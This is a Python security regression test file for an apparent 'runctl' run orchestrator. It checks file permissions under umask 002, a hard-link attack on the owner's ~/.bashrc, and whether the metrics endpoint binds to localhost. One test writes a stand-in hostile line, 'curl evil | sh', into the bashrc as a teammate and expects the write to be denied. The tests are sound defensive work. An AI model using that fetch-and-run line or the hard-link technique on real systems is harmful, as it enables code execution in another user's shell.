"""Issue 22: what the owner's own commands create and open, under the owner's umask 002 in a setgid
team directory: one umask for every owner entry point; hole 2 (a hard link in control/ chmodded
by the controller); hole 9 (`runctl metrics --listen :PORT` on every interface).
Real users (attack_env.py), the real `runctl` entry point, the mocked SLURM."""

from __future__ import annotations

import grp
import os
import shutil
import socket
import stat
import tempfile
import time
from pathlib import Path

import prometheus_client.exposition  # noqa: F401 - imported before any fork
from attack_env import as_user, runctl_as, start_as, uid
from fakes import make_config

import orchestrator.views.prom  # noqa: F401
from orchestrator.contract import RunPaths
from orchestrator.plan.config import dump_config


def mock_slurm(base: Path) -> dict[str, str]:
    return {"RUNCTL_SCHEDULER": "mock", "RUNCTL_MOCK_SLURM_DIR": str(base / "mock-slurm")}


def test_owner_commands_under_umask_002_leave_nothing_the_team_can_write(team):
    """`runctl submit` and `runctl watch` by an owner whose umask is 002, in a setgid folder of
    the team: the team may write control/ (by design) and nothing else."""
    base = Path(tempfile.mkdtemp(prefix="rc-sec-umask-", dir="/tmp"))
    try:
        os.chown(base, uid(team.owner), grp.getgrnam(team.group).gr_gid)
        os.chmod(base, 0o2775)
        config = base / "tr.yaml"
        config.write_text(dump_config(make_config(operators={"group": team.group, "users": []})))
        run = base / "run"

        def owner_commands():
            # (host checks off: this run has no dataset; what is checked is who can write what)
            return [runctl_as_self(["submit", str(config), "--run-dir", str(run), "--skip-host-checks"]),
                    runctl_as_self(["watch", str(run), "--once", "--json"])]  # fmt: skip

        results, out = as_user(team.owner, owner_commands, umask=0o002, env=mock_slurm(base))
        assert not isinstance(results, BaseException), out
        assert [rc for rc, _ in results] == [0, 0], results
        paths = RunPaths.of(run)
        writable = []
        entries = [run, *(Path(d) / n for d, dirs, files in os.walk(run) for n in dirs + files)]
        for entry in entries:
            info = os.lstat(entry)
            assert info.st_uid == uid(team.owner), entry
            if info.st_mode & 0o022 and not stat.S_ISLNK(info.st_mode):
                writable.append(f"{entry} {stat.S_IMODE(info.st_mode):04o}")
        assert writable == [f"{paths.control} 2770"], writable
        assert stat.S_IMODE(os.stat(run).st_mode) == 0o2750
        for folder in (paths.jobs, paths.heartbeats, paths.checkpoints):  # the kernel's answer
            result, _ = as_user(team.oncall, lambda f=folder: (f / "planted").mkdir())
            assert isinstance(result, PermissionError), f"{team.oncall} could write {folder}"
    finally:
        shutil.rmtree(base, ignore_errors=True)


def runctl_as_self(argv: list[str]) -> tuple[int, str]:
    """`runctl ARGV` in this (already forked) child: (exit code, output)."""
    import io  # noqa: PLC0415
    from contextlib import redirect_stderr, redirect_stdout  # noqa: PLC0415

    from orchestrator.cli.main import main  # noqa: PLC0415

    out = io.StringIO()
    with redirect_stdout(out), redirect_stderr(out):
        rc = main(argv)
    return rc, out.getvalue()


def test_hard_link_in_control_is_never_chmodded(team, shared_run):
    """A hard link in control/ to the owner's ~/.bashrc must never make it group-writable when the
    controller starts (prepare_permissions): nothing in control/ is chmodded at all. The link is
    made as root here: this host has fs.protected_hardlinks=1, which docs/security.md says the
    toolkit does not rely on."""
    paths = shared_run(team_dir=True)
    bashrc = paths.root.parent / "bashrc"
    as_user(team.owner, lambda: (bashrc.write_text("alias ls='ls -F'\n"), os.chmod(bashrc, 0o644)))
    before = os.stat(bashrc)
    os.link(bashrc, paths.control / "x")

    rc, out = as_user(team.owner, lambda: runctl_as_self(["watch", str(paths.root), "--once", "--json"]),
                      umask=0o002, env=mock_slurm(paths.root.parent))[0]  # fmt: skip
    after = os.stat(bashrc)
    assert (after.st_mode, after.st_gid) == (before.st_mode, before.st_gid), (
        "the linked file's mode/group changed"
    )
    result, _ = as_user(team.oncall, lambda: bashrc.open("a").write("curl evil | sh\n"))
    assert isinstance(result, PermissionError), f"{team.oncall} could write the owner's ~/.bashrc"
    assert rc == 0, out
    assert bashrc.read_text() == "alias ls='ls -F'\n"


def listening_addresses(port: int) -> list[str]:
    """IPv4 addresses with a socket listening on `port`, from the kernel's table."""
    found = []
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        address, hex_port = local.split(":")
        if state == "0A" and int(hex_port, 16) == port:
            found.append(socket.inet_ntoa(bytes.fromhex(address)[::-1]))
    return found


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_metrics_endpoint_listens_on_localhost_unless_told_otherwise(team, shared_run):
    """Hole 9: `--listen :PORT` served the run's metrics, unauthenticated, on every interface."""
    paths = shared_run(team_dir=True)
    for given, expected in ((":{port}", "127.0.0.1"), ("{port}", "127.0.0.1"), ("0.0.0.0:{port}", "0.0.0.0")):
        port = free_port()
        listen = given.format(port=port)
        server = start_as(
            team.owner, lambda listen=listen: runctl_as_self(["metrics", str(paths.root), "--listen", listen])
        )
        try:
            deadline = time.monotonic() + 15
            while not listening_addresses(port) and time.monotonic() < deadline:
                time.sleep(0.05)
            assert listening_addresses(port) == [expected], (listen, listening_addresses(port))
        finally:
            server.kill()
    rc, out = runctl_as(team.owner, ["metrics", "--help"])
    assert "127.0.0.1" in out and "every interface" in out, out
